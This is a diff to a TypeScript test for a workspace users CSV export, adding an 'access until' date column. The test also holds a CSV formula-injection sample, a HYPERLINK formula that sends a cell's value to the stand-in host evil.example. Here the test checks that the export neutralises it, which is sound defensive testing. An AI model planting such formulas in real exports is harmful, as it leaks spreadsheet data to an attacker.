@@ -21,6 +21,7 @@ const SPEC_HEADER = [
   "availability",
   "joined or invited at",
   "invited by",
+  "access until",
 ];
 const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
 
@@ -53,6 +54,12 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       .updateTable("workspace_members")
       .set({ invited_by: ws.ownerId, last_active_at: new Date("2026-03-04T05:06:07.000Z") })
       .where("user_id", "=", arabic.id)
+      .execute();
+    // Access until a date: ISO 8601 UTC in the last column.
+    await t.db
+      .updateTable("workspace_members")
+      .set({ access_until: new Date("2027-01-31T22:59:59.999Z") })
+      .where("user_id", "=", quiet.id)
       .execute();
     await insertTeam(t.db, ws.workspaceId, "فريق الدعم", [arabic.id]);
     await insertTeam(t.db, ws.workspaceId, "Alpha", [arabic.id]);
@@ -110,6 +117,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       "offline",
       expect.stringMatching(ISO_UTC),
       owner.email,
+      "",
     ]);
     const evilRow = byEmail.get("evil@example.com")!;
     expect(evilRow[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
@@ -126,6 +134,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
     ]);
     expect(byEmail.get("no.name@example.com")![0]).toBe("");
     expect(byEmail.get("no.name@example.com")![6], "never active → empty").toBe("");
+    expect(byEmail.get("no.name@example.com")![10]).toBe("2027-01-31T22:59:59.999Z");
     expect(byEmail.get("pending@example.com")).toEqual([
       "",
       "pending@example.com",
@@ -137,6 +146,7 @@ describe("GET /w/[workspaceId]/settings/users/export", () => {
       "",
       expect.stringMatching(ISO_UTC),
       owner.email,
+      "",
     ]);
     for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
